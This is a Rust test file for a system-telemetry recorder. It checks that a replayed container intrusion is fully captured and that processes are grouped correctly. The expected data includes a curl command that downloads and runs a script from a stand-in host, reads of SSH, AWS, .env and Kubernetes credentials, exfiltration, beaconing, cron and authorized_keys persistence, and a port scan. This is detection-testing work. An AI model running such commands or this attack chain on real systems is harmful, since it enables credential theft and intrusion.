//! The recorded intrusion: each of its steps is in the records, and every process is in the right graph.

use std::collections::HashMap;

use sysflow::{
    GraphId, Oid, Record,
    record::{Process, op},
};
use sysflow_flow::Config;

use super::{bundled, replay};

const VICTIM: &str = "e8febe1a20e5";
const DATABASE: &str = "dbc32604363d";

/// A trace with what is asked of it.
struct Trace {
    records: Vec<Record>,
    /// The last record of each process.
    processes: HashMap<Oid, Process>,
    paths: HashMap<sysflow::Foid, String>,
}

impl Trace {
    fn of(capture: &str) -> Self {
        let (records, recorder) = replay(&bundled(capture), Config::default());
        let lost = recorder.counters().lost;
        assert_eq!((lost.malformed, lost.unknown_thread, lost.limit), (0, 0, 0), "{:?}", recorder.counters());
        let mut processes = HashMap::new();
        let mut paths = HashMap::new();
        for record in &records {
            match record {
                Record::Process(p) => {
                    processes.insert(p.oid, p.clone());
                }
                Record::File(f) => {
                    paths.insert(f.oid, f.path.clone());
                }
                _ => {}
            }
        }
        Self { records, processes, paths }
    }

    fn process(&self, pid: i64) -> &Process {
        self.processes.values().find(|p| p.oid.hpid == pid).unwrap_or_else(|| panic!("no process {pid}"))
    }

    fn has_exec(&self, pid: i64, exe: &str, args: &str) -> bool {
        self.records.iter().any(|record| match record {
            Record::ProcessEvent(e) if e.op_flags == op::EXEC && e.ret == 0 && e.proc_oid.hpid == pid => {
                let p = &self.processes[&e.proc_oid];
                p.exe == exe && p.exe_args == args
            }
            _ => false,
        })
    }

    /// Bytes read and written by a process on a path.
    fn file_bytes(&self, pid: i64, path: &str) -> Option<(i64, i64)> {
        let flows = self.records.iter().filter_map(|record| match record {
            Record::FileFlow(f) if f.proc_oid.hpid == pid && self.paths[&f.file_oid] == path => {
                Some((f.num_rrecv_bytes, f.num_wsend_bytes))
            }
            _ => None,
        });
        flows.reduce(|a, b| (a.0 + b.0, a.1 + b.1))
    }

    /// Bytes received and sent by a process to an endpoint, and how many connections that were.
    fn net_bytes(&self, pid: i64, to: &str, port: i32) -> (i64, i64, usize) {
        let ip: std::net::Ipv4Addr = to.parse().unwrap();
        let dip = i32::from_le_bytes(ip.octets());
        let mut total = (0, 0, 0);
        for record in &self.records {
            if let Record::NetworkFlow(f) = record
                && f.proc_oid.hpid == pid
                && (f.dip, f.dport) == (dip, port)
            {
                total.0 += f.num_rrecv_bytes;
                total.1 += f.num_wsend_bytes;
                total.2 += usize::from(f.op_flags & op::CONNECT != 0);
            }
        }
        total
    }

    fn has_file_event(&self, pid: i64, flag: i32, path: &str, ret: i32) -> bool {
        self.records.iter().any(|record| match record {
            Record::FileEvent(e) => {
                e.proc_oid.hpid == pid
                    && e.op_flags == flag
                    && e.ret == ret
                    && self.paths[&e.file_oid] == path
            }
            _ => false,
        })
    }
}

#[test]
fn every_step_of_the_intrusion_is_recorded() {
    let trace = Trace::of("shop-attack.scap");
    for (pid, exe, args) in [
        (
            10394,
            "/usr/bin/dash",
            "-c curl -s http://198.51.100.23/exfil.py -o /tmp/exfil.py && python3 /tmp/exfil.py",
        ),
        (10395, "/usr/bin/curl", "-s http://198.51.100.23/exfil.py -o /tmp/exfil.py"),
        (10397, "/usr/bin/python3.11", "/tmp/exfil.py"),
        (10399, "/usr/bin/id", ""),
        (10401, "/usr/bin/uname", "-a"),
        (10402, "/usr/bin/ps", "aux"),
        (10403, "/usr/bin/cat", "/etc/passwd"),
    ] {
        assert!(trace.has_exec(pid, exe, args), "exec of {exe} {args} by {pid}: {:?}", trace.process(pid));
    }
    let python = 10397;
    assert_eq!(trace.file_bytes(10395, "/tmp/exfil.py"), Some((0, 3126)), "download");
    for path in [
        "/app/.env",
        "/home/node/.ssh/id_rsa",
        "/home/node/.aws/credentials",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ] {
        let (read, _) = trace.file_bytes(python, path).unwrap_or_else(|| panic!("no flow of {path}"));
        assert!(read > 0, "{path} was read");
    }
    for path in ["/root/.ssh/id_rsa", "/etc/shadow"] {
        assert!(trace.has_file_event(python, op::OPEN, path, -13), "{path} was refused");
    }
    let (read, _) = trace.file_bytes(10403, "/etc/passwd").unwrap();
    assert!(read > 0);
    assert_eq!(trace.file_bytes(python, "/tmp/dump.tgz").unwrap().1, 936_825, "archive");
    assert_eq!(trace.file_bytes(python, "/home/node/.ssh/authorized_keys").unwrap().1, 78);
    assert!(trace.has_file_event(python, op::MKDIR, "/home/node/.config/cron", 0));
    assert_eq!(trace.file_bytes(python, "/home/node/.config/cron/crontab").unwrap().1, 62);
    for path in ["/tmp/dump.tgz", "/tmp/exfil.py"] {
        assert!(trace.has_file_event(python, op::UNLINK, path, 0), "{path} was removed");
    }
    let (received, _, _) = trace.net_bytes(python, "10.88.0.3", 5432);
    assert_eq!(received, 1_025_353, "database pull");
    let (_, sent, connections) = trace.net_bytes(python, "203.0.113.99", 443);
    assert_eq!((sent, connections), (936_965, 1), "exfiltration");
    let (received, sent, beacons) = trace.net_bytes(python, "198.51.100.77", 8443);
    assert_eq!((received, beacons), (15 * 6, 15), "beacons");
    assert!((15 * 26..=15 * 27).contains(&sent), "{sent}");
    for port in
        [21, 22, 23, 25, 53, 80, 110, 111, 139, 143, 443, 445, 3306, 3389, 5900, 6379, 8080, 9200, 27017]
    {
        assert_eq!(trace.net_bytes(python, "10.88.0.3", port).2, 1, "scan of port {port}");
    }
    // The exploit came to node, and node's own talk with the database is its own.
    let exploit = trace.records.iter().any(|record| {
        matches!(record, Record::NetworkFlow(f) if f.proc_oid.hpid == 10098 && f.sport == 43956 && f.dport == 3000
            && f.op_flags & op::ACCEPT != 0 && f.num_rrecv_bytes > 0)
    });
    assert!(exploit);
}

#[test]
fn names_and_containers_are_told_as_the_host_tells_them() {
    let trace = Trace::of("shop-attack.scap");
    let python = trace.process(10397);
    assert_eq!((python.uid, python.user_name.as_str()), (1000, "node"));
    assert_eq!(python.container_id.as_deref(), Some(VICTIM));
    assert_eq!(python.vpid, 19);
    assert_eq!(trace.process(10074).container_id.as_deref(), Some(DATABASE));
    let container = trace.records.iter().find_map(|record| match record {
        Record::Container(c) if c.id == VICTIM && c.name != "incomplete" => Some(c),
        _ => None,
    });
    let container = container.expect("a container with its metadata");
    assert_eq!(
        (container.name.as_str(), container.image.as_str()),
        ("shop-frontend", "localhost/demo/shop-frontend:1.4")
    );
    let pod = trace
        .records
        .iter()
        .any(|r| matches!(r, Record::Pod(p) if p.name == "shop-frontend-0" && p.namespace == "shop"));
    assert!(pod);
}

#[test]
fn every_process_is_in_its_graph() {
    let trace = Trace::of("shop-attack.scap");
    let graph = |pid: i64| GraphId::new("demo-node", trace.process(pid).oid).to_string();
    let of = |pid: i64| trace.process(pid).graph_id.clone();
    let parent = |pid: i64| trace.process(pid).parent_graph_id.clone();
    let (service, database, login, operator) = (graph(10098), graph(10074), graph(10298), graph(10386));

    let mut table: Vec<(i64, &str, String)> = Vec::new();
    for pid in [10098, 10394, 10395, 10397, 10399, 10401, 10402, 10403] {
        table.push((pid, "service", service.clone()));
    }
    for pid in [10074, 10107, 10417] {
        table.push((pid, "database", database.clone()));
    }
    for pid in [10298, 10360, 10372, 10382, 10384] {
        table.push((pid, "login shell", login.clone()));
    }
    for pid in [10386, 10387, 10389, 10390, 10391, 10400] {
        table.push((pid, "operator's shell", operator.clone()));
    }
    for (pid, what, want) in table {
        assert_eq!(of(pid), want, "{pid} ({}) is in the graph of the {what}", trace.process(pid).exe);
    }
    assert_eq!(parent(10386), login, "the operator's shell came from the login shell");
    assert_eq!(parent(10387), login);
    // podman's clean-up is started by conmon, a session server, like the shell whose container it cleans.
    assert_eq!((of(10404), parent(10404)), (graph(10404), login));
    // Nothing in the trace is without a graph, and there are no graphs but those of roots.
    let mut graphs: Vec<&str> = trace.processes.values().map(|p| p.graph_id.as_str()).collect();
    graphs.sort_unstable();
    graphs.dedup();
    let mut want: Vec<String> = [10098, 10074, 10298, 10386, 10404].map(graph).to_vec();
    want.extend(
        trace
            .processes
            .values()
            .filter(|p| p.poid.is_none_or(|poid| poid.hpid <= 2))
            .map(|p| graph(p.oid.hpid)),
    );
    want.sort_unstable();
    want.dedup();
    assert_eq!(graphs, want);
}

/// A pid is one process for as long as it is not reaped: threads are not taken for processes.
#[test]
fn no_process_is_told_twice() {
    for capture in ["shop-attack.scap", "shop-normal.scap", "host-mix.scap"] {
        let trace = Trace::of(capture);
        let mut pids: Vec<i64> = trace.processes.keys().map(|oid| oid.hpid).collect();
        pids.sort_unstable();
        let twice: Vec<i64> = pids.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| pair[0]).collect();
        assert!(twice.is_empty(), "{capture}: {twice:?}");
    }
}

/// A process keeps its graph from its first successful exec on, and the change is told before that exec.
#[test]
fn a_graph_changes_at_the_first_exec_and_never_again() {
    for capture in ["shop-attack.scap", "host-mix.scap"] {
        let trace = Trace::of(capture);
        let mut graph: HashMap<Oid, (String, bool)> = HashMap::new();
        for record in &trace.records {
            match record {
                Record::Process(p) => {
                    let entry = graph.entry(p.oid).or_insert_with(|| (p.graph_id.clone(), false));
                    if entry.1 {
                        assert_eq!(entry.0, p.graph_id, "{p:?}");
                    }
                    entry.0.clone_from(&p.graph_id);
                }
                Record::ProcessEvent(e) if e.op_flags == op::EXEC && e.ret == 0 => {
                    graph.get_mut(&e.proc_oid).expect("the process is told first").1 = true;
                }
                _ => {}
            }
        }
    }
}
